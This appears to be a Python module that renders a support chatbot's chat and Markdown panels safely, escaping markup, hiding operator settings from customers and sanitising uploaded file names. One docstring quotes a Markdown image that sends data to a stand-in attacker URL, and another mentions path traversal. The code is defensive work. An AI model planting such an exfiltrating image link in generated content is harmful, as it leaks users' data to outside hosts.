"""What the pages show, as plain functions (tested without a browser or a server).

Two ways text reaches a page, each made inert in its own way:
- chat messages (`chat_text`): the Chatbot renders them as plain text (no Markdown), so only a
  `<` or `&` that would start a tag or an entity needs breaking, with an invisible word joiner
  (U+2060); what is shown, and what the copy button copies, is the text as written.
- Markdown panels (sources, knowledge-base status, team notes: `markdown_text`): HTML-escaped,
  and `[` too, so no Markdown link or image forms.
"""

from __future__ import annotations

import html
import re
import time
from pathlib import Path

from bot.config import CONFIG_FILE, ENV_PREFIX, iter_fields
from bot.errors import RequestError

_SAFE_NAME = re.compile(r"[^A-Za-z0-9._ -]+")
WJ = "\u2060"  # word joiner: invisible, and it keeps "<" and "&" from starting markup
_MARKUP_START = re.compile(r"(<(?=[A-Za-z/!?])|&(?=[A-Za-z#]))")
# what a customer is never told to do: change a setting key, a flag or an environment variable
_SECTIONS = sorted({name.split(".")[0] for name, _, _ in iter_fields() if "." in name})
_OPERATOR = re.compile(rf"\b({'|'.join(_SECTIONS)})\.[a-z_]+|--[a-z]|{ENV_PREFIX}|{CONFIG_FILE}", re.I)
CUSTOMER_FALLBACK = "Sorry, this message could not be answered. Please rephrase it and try again."


def text_of(content) -> str:
    """A chat message's text: Gradio sends a str over the API, a list of parts after the UI."""
    if isinstance(content, str):
        return content
    if isinstance(content, dict):
        return str(content.get("text") or content.get("value") or "")
    if isinstance(content, (list, tuple)):
        return " ".join(text_of(c) for c in content)
    return "" if content is None else str(content)


def chat_text(text: str) -> str:
    """A message or answer as the chat shows it: the text itself, with a word joiner after each
    `<` or `&` that could start a tag or an entity, so markup shows as text and never runs.

    The Chatbot renders without Markdown (`[1]`, `![x](url)`, `**` stay as typed), so the copy
    button copies exactly what is shown. `chat_source` gives the original back."""
    return _MARKUP_START.sub(r"\1" + WJ, text or "")


def chat_source(text: str) -> str:
    """`chat_text` undone: the text as it was written (for the chain, for API clients)."""
    return re.sub(r"([<&])" + WJ, r"\1", text or "")


def history_messages(history: list | None) -> list[dict]:
    """Gradio's chat history as the chain's [{"role", "content": str}], as the people wrote it."""
    out = []
    for m in history or []:
        if isinstance(m, dict) and m.get("role") in ("user", "assistant"):
            out.append({"role": m["role"], "content": chat_source(text_of(m.get("content")))})
    return out


def _sentence(text: str) -> str:
    """Capitalised when it starts with a plain word ("the message is empty"), not with a name ("x.md")."""
    text = text.strip()
    return text[:1].upper() + text[1:] if re.match(r"[a-z]+(?=[ ,;:]|$)", text) else text


def error_text(err) -> str:
    """A SupportbotError as one short Markdown line for the team page: the problem, then what to do."""
    message = str(err.args[0] if err.args else err).strip().rstrip(".")
    hint = (getattr(err, "hint", "") or "").strip().rstrip(".")
    return markdown_text(f"⚠️ {_sentence(message)}." + (f" {_sentence(hint)}." if hint else ""))


def customer_error(err) -> str:
    """A SupportbotError as one short chat line for a customer: the problem and what they can do.

    Hints name the customer's own remedy first; later alternatives are for whoever runs the bot
    ("shorten it, or use a model with a longer context (--model.context_tokens)"), so only the first
    is kept, and a hint or message that still names a setting, flag or environment variable is
    left out (the message is replaced by a plain apology)."""
    message = str(err.args[0] if err.args else "").strip().rstrip(".")
    if not message or _OPERATOR.search(message):
        return chat_text(f"⚠️ {CUSTOMER_FALLBACK}")
    hint = re.split(r"\s*\(|,\s*or\b|;", getattr(err, "hint", "") or "")[0].strip(" .")
    if _OPERATOR.search(hint):
        hint = ""
    return chat_text(f"⚠️ {_sentence(message)}." + (f" {_sentence(hint)}." if hint else ""))


def markdown_text(text: str) -> str:
    """Text for a Markdown panel: escaped, so markup shows as text.

    "[" becomes an entity too, so no Markdown link or image forms: a document could otherwise
    make the page print `![](https://attacker/?q=...)`, which the browser would fetch unasked.
    html.unescape gives the original back."""
    return html.escape(text, quote=False).replace("[", "&#91;")


def _code(text: str) -> str:
    """Text for inside a `code span`: escaped, and with no backtick that could end the span early."""
    return html.escape(text.replace("`", "'"), quote=False)


def sources_markdown(answer: dict | None) -> str:
    """The sources panel for one answer (Answer.to_dict()): [n], file, section, score, passage."""
    if not answer:
        return "_Sources of the last answer appear here._"
    parts = []
    if answer.get("flagged"):
        values = ", ".join(f"`{_code(v)}`" for v in answer["flagged"])
        what = "replaced by a quote of the passage" if answer.get("kind") == "fallback" else "shown as written"
        parts.append(f"⚠️ **Not found in the cited passages:** {values} (the model's answer was {what}).")
    if answer.get("refused"):
        parts.append("ℹ️ Nothing in the knowledge base was relevant enough, so the bot did not guess.")
    if not answer.get("sources"):
        parts.append("_No passages were used for this reply._")
    for s in answer.get("sources", []):
        where = _code(s["source"]) + (f" › {_code(s['section'])}" if s.get("section") else "")
        mark = " · **cited**" if s.get("cited") else ""
        twins = ", ".join(f"`{_code(t)}`" for t in s.get("also_in", []))
        also = f" · also in {twins}" if twins else ""
        passage = markdown_text(s.get("text", "")).strip().replace("\n", "\n> ")
        parts.append(f"**[{s['n']}]** `{where}` (score {s.get('score', 0):.2f}){mark}{also}\n> {passage}")
    return "\n\n".join(parts)


def kb_status_markdown(kb) -> str:
    """Documents, passages and the last sync of a bot.knowledge.KnowledgeBase."""
    view = kb.view()
    report = kb.last_report
    lines = [f"**{len(view.sources())} documents**, **{len(view)} passages** in the index"]
    if report is not None:
        when = time.strftime("%H:%M:%S", time.localtime(report.finished_at)) if report.finished_at else "?"
        lines.append(f"Last sync {when}: {html.escape(report.summary())}")
        for s in report.skipped[:5]:
            lines.append(f"- skipped `{html.escape(s['file'])}`: {html.escape(s['reason'])}")
    else:
        lines.append("Not synced in this session yet.")
    if kb.last_error:
        lines.append(f"⚠️ Last background sync failed (still answering from the previous index): "
                     f"{html.escape(kb.last_error)}")
    return "\n\n".join(lines)


def upload_name(name: str, extensions: list[str]) -> str:
    """A safe file name for an uploaded document, or RequestError saying why not.

    Only the last path component counts ("../../x.md" -> "x.md"); odd characters become "_";
    hidden names and types the knowledge base does not index are refused.
    """
    base = re.split(r"[\\/]", name or "")[-1].strip()
    base = "" if base.startswith(".") else _SAFE_NAME.sub("_", base).strip(" .")
    if not base:
        raise RequestError(f"{name!r} is not a usable file name", "rename the file and upload it again")
    if Path(base).suffix.lower() not in {e.lower() for e in extensions}:
        raise RequestError(f"{base}: this type is not indexed", f"upload one of: {', '.join(extensions)}")
    return base[:120]


FEEDBACK_COLUMNS = ["time (UTC)", "rating", "voice", "question", "answer", "sources"]
VOICE_COLUMNS = ["voice", "status", "description", "details"]


def _cut(text, limit: int) -> str:
    text = " ".join(str(text or "").split())
    return text if len(text) <= limit else text[:limit - 1] + "…"


def feedback_rows(records: list[dict], limit: int = 50) -> list[list[str]]:
    """The newest `limit` feedback records (FeedbackLog.records()) as table rows, newest first."""
    rows = []
    for r in reversed(records[-limit:] if limit else records):
        rating = {"up": "helpful", "down": "not helpful"}.get(r.get("rating"), str(r.get("rating", "")))
        sources = ", ".join(s.get("source", "") + (f" › {s['section']}" if s.get("section") else "")
                            for s in r.get("sources") or [] if isinstance(s, dict))
        rows.append([str(r.get("time", "")).replace("T", " ").rstrip("Z"), rating, str(r.get("adapter", "")),
                     _cut(r.get("question"), 200), _cut(r.get("answer"), 300), _cut(sources, 200)])
    return rows


def voice_rows(adapters) -> list[list[str]]:
    """Every adapter folder found (bot.adapters.Adapter), loaded or not, with why not."""
    rows = [["none", "built in", "the base model's plain voice", ""]]
    for a in sorted(adapters, key=lambda a: a.name):
        details = a.reason if a.status != "loaded" else (f"base {a.base}" if a.base else "")
        rows.append([a.name, a.status, _cut(a.voice, 200), _cut(details, 300)])
    return rows
